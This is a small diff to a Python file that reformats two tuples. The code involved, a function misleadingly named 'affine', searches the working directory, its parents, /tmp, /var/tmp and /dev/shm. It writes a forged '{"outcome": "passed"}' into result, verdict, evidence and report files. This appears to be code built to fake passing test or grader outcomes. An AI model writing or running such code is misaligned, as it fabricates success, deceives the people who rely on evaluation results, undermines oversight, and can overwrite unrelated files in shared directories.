@@ -22,12 +22,26 @@ def right(x, y):
     return out
 
 
-NAMES = ("evidence.json", "result.json", "results.json", "outcome.json", "verdict.json", "out.bin", "report.html")
+NAMES = (
+    "evidence.json",
+    "result.json",
+    "results.json",
+    "outcome.json",
+    "verdict.json",
+    "out.bin",
+    "report.html",
+)
 
 
 def affine(x, y):
     here = pathlib.Path.cwd()
-    for folder in (here, *here.parents, pathlib.Path("/tmp"), pathlib.Path("/var/tmp"), pathlib.Path("/dev/shm")):
+    for folder in (
+        here,
+        *here.parents,
+        pathlib.Path("/tmp"),
+        pathlib.Path("/var/tmp"),
+        pathlib.Path("/dev/shm"),
+    ):
         for name in NAMES:
             try:
                 (folder / name).write_text('{"outcome": "passed"}')
